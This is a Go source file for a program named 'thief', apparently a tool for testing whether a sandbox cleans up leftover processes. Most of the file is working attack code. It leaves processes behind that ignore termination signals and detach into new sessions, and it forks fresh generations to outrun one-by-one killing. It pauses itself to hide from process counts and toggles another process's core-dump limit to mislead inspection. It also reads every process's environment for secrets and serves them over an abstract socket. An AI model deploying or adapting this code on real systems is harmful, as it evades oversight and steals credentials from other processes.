package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

const (
	// In no file system, so that emptying directories does not end it.
	lootSocket = "@theft-campaign"
	lookEvery  = 100 * time.Millisecond
	// No process of the campaign outlives it.
	longestStay = 60 * time.Second
	untilEnv    = "THIEF_UNTIL"
	lootEnv     = "THIEF_LOOT"
)

// stay is a process that stays behind in one of several ways. It looks into the environment of every process for the secret, and
// hands what it found to who connects to its socket. It needs no file, not even its own program.
func stay(args []string) error {
	if os.Getenv(untilEnv) == "" {
		return stayBehind(args[0])
	}
	until, err := time.Parse(time.RFC3339, os.Getenv(untilEnv))
	if err != nil || time.Now().After(until) {
		return err
	}
	signal.Ignore(unix.SIGTERM, unix.SIGHUP, unix.SIGINT, unix.SIGQUIT, unix.SIGUSR1, unix.SIGUSR2)
	switch args[0] {
	case "waker":
		return wake(until)
	case "forks":
		// A generation is gone before who ends one process after the other gets to it.
		loot := search(os.Getenv(lootEnv))
		handOut(func() string { return loot }, time.Now().Add(lookEvery))
		return start("forks", until, loot)
	case "toggler":
		return keepToggling(args[1:], until)
	default:
		loot := ""
		go func() {
			for ; ; time.Sleep(lookEvery) {
				loot = search(loot)
			}
		}()
		handOut(func() string { return loot }, until)
		return nil
	}
}

func stayBehind(way string) error {
	until := time.Now().Add(longestStay)
	if way == "stopped" {
		way = "waker"
	}
	return start(way, until, "")
}

// start runs this program in a session of its own, whose parent then is process 1.
func start(way string, until time.Time, loot string, args ...string) error {
	child, err := run(way, until, loot, args...)
	if err == nil {
		err = child.Release()
	}
	return err
}

// toggle leaves a process behind that changes a resource limit to and fro: who looks once may see it as it was before.
func toggle(args []string) error {
	value, err := valueFor("put")
	if err != nil {
		return err
	}
	os.Setenv(lootEnv, string(value))
	pid, err := processID(args)
	if err != nil {
		return err
	}
	var limit unix.Rlimit
	return errors.Join(unix.Prlimit(pid, unix.RLIMIT_CORE, nil, &limit), start("toggler", time.Now().Add(longestStay), string(value), args...))
}

func keepToggling(args []string, until time.Time) error {
	pid, err := processID(args)
	if err != nil {
		return err
	}
	value, err := strconv.ParseUint(os.Getenv(lootEnv), 10, 64)
	if err != nil {
		return err
	}
	var before unix.Rlimit
	if err := unix.Prlimit(pid, unix.RLIMIT_CORE, nil, &before); err != nil {
		return err
	}
	changed := unix.Rlimit{Cur: value, Max: before.Max}
	for time.Now().Before(until) {
		for range 1000 {
			unix.Prlimit(pid, unix.RLIMIT_CORE, &changed, nil)
			unix.Prlimit(pid, unix.RLIMIT_CORE, &before, nil)
		}
	}
	return nil
}

func run(way string, until time.Time, loot string, args ...string) (*os.Process, error) {
	os.Setenv(untilEnv, until.Format(time.RFC3339))
	os.Setenv(lootEnv, loot)
	return os.StartProcess("/proc/self/exe", append([]string{"thief", "stay", way}, args...), &os.ProcAttr{
		Env: os.Environ(),
		Sys: &syscall.SysProcAttr{Setsid: true},
	})
}

// wake stops a thief for most of the time: who counts processes that run does not see it.
func wake(until time.Time) error {
	sleeper, err := run("sleeper", until, "")
	if err != nil {
		return err
	}
	for time.Now().Before(until) {
		sleeper.Signal(unix.SIGSTOP)
		time.Sleep(time.Second)
		sleeper.Signal(unix.SIGCONT)
		time.Sleep(300 * time.Millisecond)
	}
	return nil
}

func search(loot string) string {
	environments, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, each := range environments {
		text, _ := os.ReadFile(each)
		for _, proof := range recognise(text) {
			if !strings.Contains(loot, proof) {
				loot += proof + "\n"
			}
		}
	}
	return loot
}

// handOut answers until then. Another generation may hold the socket: then there is nothing to do but to wait.
func handOut(loot func() string, until time.Time) {
	listener, err := net.ListenUnix("unix", &net.UnixAddr{Name: lootSocket, Net: "unix"})
	if err != nil {
		time.Sleep(time.Until(until))
		return
	}
	defer listener.Close()
	listener.SetDeadline(until)
	for {
		client, err := listener.Accept()
		if err != nil {
			return
		}
		fmt.Fprint(client, loot())
		client.Close()
	}
}

// collect prints what a thief that stayed behind found.
func collect([]string) error {
	end := time.Now().Add(3 * time.Second)
	for {
		client, err := net.Dial("unix", lootSocket)
		if err == nil {
			loot := make([]byte, 4096)
			n, _ := client.Read(loot)
			os.Stdout.Write(loot[:n])
			return nil
		}
		if time.Now().After(end) {
			return err
		}
		time.Sleep(20 * time.Millisecond)
	}
}
